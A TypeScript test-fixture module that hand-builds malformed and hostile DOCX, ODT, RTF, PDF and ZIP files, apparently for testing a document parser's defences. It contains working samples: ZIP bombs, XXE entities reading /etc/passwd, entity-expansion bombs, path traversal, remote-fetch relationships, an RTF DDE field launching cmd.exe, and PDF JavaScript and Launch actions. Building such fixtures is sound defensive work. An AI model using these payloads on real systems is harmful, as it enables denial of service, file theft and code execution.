import { constants, deflateRawSync, deflateSync } from 'node:zlib'

/** Files as attackers and faulty programs write them. They are made by hand, because no library writes broken files. */

/**
 * A part of a ZIP file.
 * @property packed the bytes to store instead of the deflated text
 * @property claims the unpacked size that the directory states
 * @property isStored the bytes of `packed` are not deflated
 * @property sameAs the index of an earlier part to whose bytes the directory points
 */
type Part = {
  name: string
  text?: string | Buffer
  packed?: Buffer
  claims?: number
  flags?: number
  sameAs?: number
  isStored?: boolean
}

const emptyPacked = deflateRawSync('')

type Behind = { comment?: string | Buffer }
function zipOf(parts: readonly Part[], { comment = '' }: Behind = {}): Buffer {
  const places: { at: number; packed: Buffer }[] = []
  const bytes: Buffer[] = []
  const directory: Buffer[] = []
  let length = 0
  const add = (...more: Buffer[]) => {
    bytes.push(...more)
    for (const one of more) length += one.length
  }
  for (const { name, text, claims = Buffer.byteLength(text ?? ''), flags = 0, sameAs, isStored, ...part } of parts) {
    const packed = part.packed ?? (text === undefined ? emptyPacked : deflateRawSync(text))
    const place = sameAs === undefined ? { at: length, packed } : places[sameAs]!
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(flags, 2)
    common.writeUInt16LE(isStored ? 0 : 8, 4)
    common.writeUInt32LE(place.packed.length, 14)
    common.writeUInt32LE(claims, 18)
    common.writeUInt16LE(Buffer.byteLength(name), 22)
    if (sameAs === undefined) add(Buffer.from('PK\x03\x04'), common, Buffer.from(name), packed)
    const more = Buffer.alloc(14)
    more.writeUInt32LE(place.at, 10)
    directory.push(Buffer.from('PK\x01\x02\x14\0'), common, more, Buffer.from(name))
    places.push(place)
  }
  const end = Buffer.alloc(18)
  end.writeUInt16LE(parts.length % 0x1_0000, 4)
  end.writeUInt16LE(parts.length % 0x1_0000, 6)
  end.writeUInt32LE(
    directory.reduce((sum, one) => sum + one.length, 0),
    8,
  )
  end.writeUInt32LE(length, 12)
  end.writeUInt16LE(comment.length, 16)
  return Buffer.concat([...bytes, ...directory, Buffer.from('PK\x05\x06'), end, Buffer.from(comment as string)])
}

/**
 * Megabytes of one letter, deflated. The text is never in memory as a whole: it is joined from deflated pieces, each
 * flushed to a full byte.
 */
function packedOf(letter: string, megabytes: number, before = '', after = ''): Buffer {
  const finishFlush = constants.Z_SYNC_FLUSH
  const piece = deflateRawSync(Buffer.alloc(1_000_000, letter), { finishFlush })
  const first = deflateRawSync(before, { finishFlush })
  return Buffer.concat([first, ...Array.from({ length: megabytes }, () => piece), deflateRawSync(after)])
}

const formats = 'http://schemas.openxmlformats.org'
const typesOf = (document: string) => ({
  name: '[Content_Types].xml',
  text: `<Types xmlns="${formats}/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/${document}.main+xml"/></Types>`,
})
const types = typesOf('vnd.openxmlformats-officedocument.wordprocessingml.document')
const beforeText = `<w:document xmlns:w="${formats}/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>`
const afterText = '</w:t></w:r></w:p></w:body></w:document>'
const documentOf = (text: string, before = '') => ({
  name: 'word/document.xml',
  text: `${before}${beforeText}${text}${afterText}`,
})
/** Relationships to targets outside the document. */
const relationships = (name: string, targets: readonly (readonly [type: string, target: string])[]) => {
  const each = targets.map(
    ([type, target], id) =>
      `<Relationship Id="r${id}" Type="${formats}/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
  )
  return {
    name,
    text: `<Relationships xmlns="${formats}/package/2006/relationships">${each.join('')}</Relationships>`,
  }
}
const docxOf = (text: string, more: readonly Part[] = [], before = '') =>
  zipOf([types, documentOf(text, before), ...more])
const [sales, salesParts] = [() => docxOf('Sales'), [types, documentOf('Sales')]]

export const documents = {
  plain: sales,
  withMacros: () => docxOf('Sales', [{ name: 'word/vbaProject.bin' }]),
  withMacrosUnderAnotherName: () =>
    zipOf([
      typesOf('vnd.ms-word.document.macroEnabled'),
      documentOf('Sales'),
      relationships('word/_rels/document.xml.rels', [['vbaProject', 'styles.bin']]),
      { name: 'word/styles.bin' },
    ]),
  thatIsHtml: () => zipOf([{ name: '<html><script>alert(1)</script>' }, ...salesParts]),
  withHtmlBehind: () => zipOf(salesParts, { comment: '<script>alert(1)</script>' }),
  /**
   * The comment is another document, followed by a letter. Programs that use the last directory in a file read that
   * document.
   */
  withTwoDirectories: () => {
    const hidden = docxOf('Hidden', [{ name: 'word/vbaProject.bin' }])
    return zipOf(salesParts, { comment: Buffer.concat([hidden, Buffer.from('.')]) })
  },
  /** A document with everything that makes Word fetch a URL. */
  thatFetches: (url: string) =>
    docxOf(`</w:t></w:r><w:r><w:instrText>INCLUDETEXT "${url}/text"</w:instrText></w:r><w:r><w:t>Sales`, [
      relationships('word/_rels/settings.xml.rels', [['attachedTemplate', `${url}/template.dotm`]]),
      relationships(
        'word/_rels/document.xml.rels',
        ['image', 'styles', 'numbering', 'comments', 'aFChunk', 'subDocument', 'oleObject'].map((type) => [
          type,
          `${url}/${type}`,
        ]),
      ),
    ]),
  withObject: () =>
    docxOf('Sales', [{ name: 'word/embeddings/oleObject1.bin', text: Buffer.from('d0cf11e0a1b11ae14d5a', 'hex') }]),
  withEntitiesOfFiles: (url: string) =>
    docxOf('&x;&y;', [], `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${url}/y">]>`),
  withEntitiesOfEntities: () => {
    const levels = Array.from({ length: 30 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`)
    return docxOf('&e30;', [], `<!DOCTYPE a [<!ENTITY e0 "ha">${levels.join('')}]>`)
  },
  ofDeepElements: () => docxOf(`${'<w:p>'.repeat(200_000)}deep${'</w:p>'.repeat(200_000)}`),
  ofAnotherFile: () =>
    zipOf([...salesParts, relationships('_rels/.rels', [['officeDocument', '../../../../etc/passwd']])]),
  ofNoXml: () => zipOf([types, { name: 'word/document.xml', text: Buffer.from('4d5a90000300', 'hex') }]),
  encrypted: () => zipOf(salesParts.map((part) => ({ ...part, flags: 1 }))),
  writingOutside: (name: string) => docxOf('Sales', [{ name }]),
  pointingOutside: () => {
    const bytes = sales()
    // The offset at which the directory claims that the document begins.
    bytes.writeUInt32LE(2 ** 31, bytes.lastIndexOf('word/document.xml') - 4)
    return bytes
  },
  cut: () => sales().subarray(0, -30),
  behindOtherBytes: () => Buffer.concat([Buffer.from('MZ'), sales()]),
}

const odf = 'urn:oasis:names:tc:opendocument:xmlns'
const beforeOdt = `<d xmlns:office="${odf}:office:1.0" xmlns:text="${odf}:text:1.0" xmlns:table="${odf}:table:1.0"><text:p>`
const afterOdt = '</text:p></d>'
/** An OpenDocument begins with its type, which is not deflated. */
const odtOf = (content: Pick<Part, 'text' | 'packed' | 'claims'>, more: readonly Part[] = []) => {
  const name = 'mimetype'
  const type = 'application/vnd.oasis.opendocument.text'
  return zipOf([
    { name, text: type, packed: Buffer.from(type), isStored: true },
    { name: 'content.xml', ...content },
    ...more,
  ])
}
const odtSaying = (text: string) => odtOf({ text: `${beforeOdt}${text}${afterOdt}` })

export const openDocuments = {
  plain: () => odtSaying('Sales'),
  withMacros: () => odtOf({ text: `${beforeOdt}Sales${afterOdt}` }, [{ name: 'Basic/Standard/Module1.xml' }]),
  withWrongType: () =>
    zipOf([{ name: 'mimetype', text: 'application/vnd.oasis.opendocument.text' }, { name: 'content.xml' }]),
  withRepeatedSpaces: () => odtSaying('Sa<text:s text:c="2000000000"/>les'),
  withRepeatedCells: () =>
    odtSaying(
      '</text:p><table:table-row table:number-rows-repeated="2000000000"><table:table-cell table:number-columns-repeated="2000000000"><text:p>Sales</text:p></table:table-cell></table:table-row><text:p>',
    ),
  ofTablesInTables: () => {
    const [open, close] = [
      '<table:table-row><table:table-cell><text:p>',
      '</text:p></table:table-cell></table:table-row>',
    ]
    return odtSaying(`${open.repeat(100_000)}deep${close.repeat(100_000)}`)
  },
  thatFetches: (url: string) =>
    odtSaying(
      `Sales<draw:image xmlns:draw="${odf}:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink" x:href="${url}/a"/>`,
    ),
  withEntities: (url: string) =>
    odtOf({ text: `<!DOCTYPE a [<!ENTITY x SYSTEM "${url}/x">]>${beforeOdt}&x;${afterOdt}` }),
  ofMegabytes: (megabytes: number, claims = megabytes * 1e6) =>
    odtOf({ packed: packedOf('a', megabytes, beforeOdt, afterOdt), claims }),
}

const rtfOf = (text: string) => `{\\rtf1\\ansi ${text}}`
export const rtfs = {
  plain: () => rtfOf('Sales'),
  withObject: () => rtfOf('{\\object\\objocx{\\*\\objdata 0105}}Sales'),
  withHiddenObject: () => rtfOf(`${'{'.repeat(50)}{\\*\\objupdate}${'}'.repeat(50)}Sales`),
  thatStartsPrograms: () => rtfOf('{\\field{\\*\\fldinst {\\ddeauto c:\\\\cmd.exe}}}Sales'),
  ofDeepGroups: () => rtfOf(`${'{'.repeat(2_000_000)}Sales${'}'.repeat(2_000_000)}`),
  withLongBinary: () => rtfOf('Sales\\bin2000000000 '),
  withNegativeBinary: () => rtfOf('\\bin-2000000000 Sales'),
  withManySkippedLetters: () => rtfOf('Sales\\uc2000000000\\u8364 hidden'),
  ofControlWords: () => rtfOf('\\par '.repeat(1_800_000)),
  ofBrokenWords: () => rtfOf(`Sales${"\\'".repeat(10)}\\${'a'.repeat(1_000_000)}`),
  withControls: () => rtfOf("SA\\'1b\\u8238 ?\\u0 ?LES"),
  cut: () => rtfOf('Sales').slice(0, -1),
}

const unpacksTo = (megabytes: number, claims: number) =>
  zipOf([types, { name: 'word/document.xml', packed: packedOf('a', megabytes, beforeText, afterText), claims }])

export const bombs = {
  honest: () => unpacksTo(1_000, 1e9),
  lying: () => unpacksTo(1_000, 1_000),
  belowTheLimit: () => unpacksTo(150, 150e6),
  nested: () => {
    let inner = zipOf([{ name: 'a', packed: packedOf('a', 1_000), claims: 1e9 }])
    for (let level = 0; level < 5; level++)
      inner = zipOf([{ name: 'a.zip', text: inner }, ...Array.from({ length: 15 }, () => ({ name: 'b', sameAs: 0 }))])
    return docxOf('Sales', [{ name: 'word/embeddings/a.zip', text: inner }])
  },
  /** The number of parts that the end of the file states has 16 bits, so above 65,535 it starts again at 0. */
  ofParts: (count: number) =>
    docxOf(
      'Sales',
      Array.from({ length: count }, (_, n) => ({ name: `${n}` })),
    ),
  /** The ZIP bomb of David Fifield: all parts are the same bytes. */
  overlapping: (claims: number) => {
    const parts = Array.from({ length: 4_000 }, (_, n) => ({ name: `word/${n}`, claims, sameAs: 2 }))
    return docxOf('Sales', [{ name: 'word/a', packed: packedOf('a', 100), claims }, ...parts])
  },
}

export const otherArchives = {
  workbook: () => zipOf([types, { name: 'xl/workbook.xml', text: '<workbook/>' }]),
  javaProgram: () => zipOf([{ name: 'META-INF/MANIFEST.MF', text: 'Main-Class: A' }, { name: 'A.class' }]),
}

type PdfObject = string | Buffer
const streamOf = (bytes: string | Buffer, dictionary = '') =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${Buffer.byteLength(bytes)}>>stream\n`),
    Buffer.from(bytes as string),
    Buffer.from('\nendstream'),
  ])

type Pdf = { comment?: string; trailer?: string; off?: number; loops?: boolean }
/**
 * A PDF of these objects, which are numbered from 1; the first must be the catalog.
 * @param off the difference between the real and the stated offset of the table of objects
 * @param loops whether the table names itself as its predecessor
 */
function pdfOf(objects: readonly PdfObject[], { comment = '', trailer = '', off = 0, loops = false }: Pdf = {}) {
  const parts = [Buffer.from(`%PDF-1.7\n%${comment}\n`)]
  const places: number[] = []
  let length = parts[0]!.length
  for (const [index, object] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj`),
      Buffer.from(object as string),
      Buffer.from('endobj\n'),
    ])
    parts.push(part)
    places.push(length)
    length += part.length
  }
  const lines = places.map((at) => `${String(at + off).padStart(10, '0')} 00000 n \n`).join('')
  const size = places.length + 1
  const before = loops ? `/Prev ${length}` : ''
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${lines}trailer<</Root 1 0 R/Size ${size}${before}${trailer}>>\n`
  return Buffer.concat([...parts, Buffer.from(`${table}startxref\n${length + off}\n%%EOF\n`)])
}

type Page = { catalog?: string; page?: string; resources?: string; font?: string; more?: readonly PdfObject[] }
/** The objects of a PDF with one page, whose content is the fourth object. Further objects are numbered from 6. */
const onePage = (content: PdfObject, { catalog = '', page = '', resources = '', font = '', more = [] }: Page = {}) => [
  `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
  `<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>${resources}>>>>`,
  `<</Type/Page/Parent 2 0 R/Contents 4 0 R${page}>>`,
  content,
  `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding${font}>>`,
  ...more,
]
const shows = (text: string) => `BT /F 12 Tf 50 700 Td (${text}) Tj ET`
const salesPage = onePage(streamOf(shows('Sales')))
/** Deflated data with the two bytes of the zlib header, as PDF needs it. */
const zlibOf = (packed: Buffer) => Buffer.concat([Buffer.from('789c', 'hex'), packed])
const unicodeOf = (lines: string) =>
  streamOf(`begincmap 1 begincodespacerange <00> <ff> endcodespacerange ${lines} endcmap`)

export const pdfs = {
  plain: () => pdfOf(salesPage),
  withoutText: () => pdfOf(onePage(streamOf(''))),
  thatIsZip: () => Buffer.concat([pdfOf(salesPage), zipOf([{ name: 'a' }], { comment: '%%EOF' })]),
  withZipInside: () => Buffer.concat([pdfOf(salesPage), zipOf([{ name: 'a' }]), Buffer.from('\n%%EOF')]),
  withHtml: () => pdfOf(salesPage, { comment: '<html><script>alert(1)</script></html>' }),
  behind: (line: string) => Buffer.concat([Buffer.from(line.repeat(1_000 / line.length)), pdfOf(salesPage)]),
  of100000Pages: (says: number) => {
    const kids = Array.from({ length: 100_000 }, (_, n) => `${n + 6} 0 R`).join(' ')
    const more = Array.from({ length: 100_000 }, () => '<</Type/Page/Parent 2 0 R>>')
    return pdfOf(
      [...salesPage, ...more].with(
        1,
        `<</Type/Pages/Kids[3 0 R ${kids}]/Count ${says}/Resources<</Font<</F 5 0 R>>>>>>`,
      ),
    )
  },
  ofPagesInCircle: () => pdfOf(salesPage.with(1, '<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 2>>')),
  ofDeepArrays: () => pdfOf(onePage(salesPage[3]!, { page: `/Annots ${'['.repeat(1e6)}${']'.repeat(1e6)}` })),
  ofDeepContent: () => pdfOf(onePage(streamOf(`BT /F 12 Tf ${'['.repeat(1e6)}(Sales)${']'.repeat(1e6)} TJ ET`))),
  thatUnpacks: () => pdfOf(onePage(streamOf(zlibOf(packedOf(' ', 2_000)), '/Filter/FlateDecode'))),
  thatUnpacksTwice: () =>
    pdfOf(onePage(streamOf(deflateSync(zlibOf(packedOf(' ', 9_000))), '/Filter[/FlateDecode/FlateDecode]'))),
  /** Each form object draws the next one ten times. */
  ofFormsInForms: () => {
    const more = Array.from({ length: 12 }, (_, n) =>
      streamOf(
        n < 11 ? '/X Do '.repeat(10) : shows('ha'),
        `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>/XObject<</X ${n + 7} 0 R>>>>`,
      ),
    )
    return pdfOf(onePage(streamOf('/X Do'), { resources: '/XObject<</X 6 0 R>>', more }))
  },
  /** A PDF with everything that a reader could run, open or fetch. */
  thatActs: (url: string) => {
    const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
    const actions = [script, `<</S/URI/URI(${url}/a)>>`, `<</S/SubmitForm/F(${url}/b)>>`, '<</S/Launch/F(calc.exe)>>']
    const links = actions.map((action) => `<</Subtype/Link/Rect[0 0 9 9]/A ${action}/AA<</PV ${action}>>>>`)
    const names = `<</JavaScript<</Names[(a) ${script}]>>/EmbeddedFiles<</Names[(a.exe) <</F(a.exe)/EF<</F 6 0 R>>>>]>>>>`
    return pdfOf(
      onePage(salesPage[3]!, {
        catalog: `/OpenAction ${script}/AA<</WC ${script}>>/AcroForm<</XFA 7 0 R>>/Names ${names}`,
        page: `/Annots[${links.join('')}]/AA<</O ${actions[1]}>>/Thumb 8 0 R`,
        more: [
          streamOf('MZ'),
          streamOf(`<xdp><submit target="${url}/c"/></xdp>`),
          streamOf('', `/F<</FS/URL/F(${url}/d)>>`),
        ],
      }),
    )
  },
  encrypted: () => {
    const [own, user] = ['1', '2'].map((digit) => `<${digit.repeat(64)}>`)
    return pdfOf(salesPage, {
      trailer: `/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O${own}/U${user}>>`,
    })
  },
  withWrongTable: () => pdfOf(salesPage, { off: 7 }),
  withTableInCircle: () => pdfOf(salesPage, { loops: true }),
  cut: () => pdfOf(salesPage).subarray(0, -8),
  /** The letters a to e stand for control characters. */
  withControls: () => {
    const letters = '5 beginbfchar <61> <202E> <62> <001B> <63> <200B> <64> <0000> <65> <2066> endbfchar'
    return pdfOf(onePage(streamOf(shows('SALabcdeES')), { font: '/ToUnicode 6 0 R', more: [unicodeOf(letters)] }))
  },
  withLargePicture: () => {
    const picture = '/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB'
    return pdfOf(
      onePage(streamOf(`/X Do ${shows('Sales')}`), {
        resources: '/XObject<</X 6 0 R>>',
        more: [streamOf(zlibOf(packedOf('a', 1_000)), `${picture}/Filter/FlateDecode`)],
      }),
    )
  },
  withWideRows: () => {
    const rows = '/DecodeParms<</Predictor 15/Columns 2000000000/Colors 4/BitsPerComponent 16>>'
    return pdfOf(onePage(streamOf(deflateSync(shows('Sales')), `/Filter/FlateDecode${rows}`)))
  },
  /** A PDF with unknown commands, which a reader may quote in its log. */
  withUnknownCommands: () => pdfOf(onePage(streamOf(`\x1bunknown 7 ${shows('Sales')} 7 unknown /Y Do`))),
}
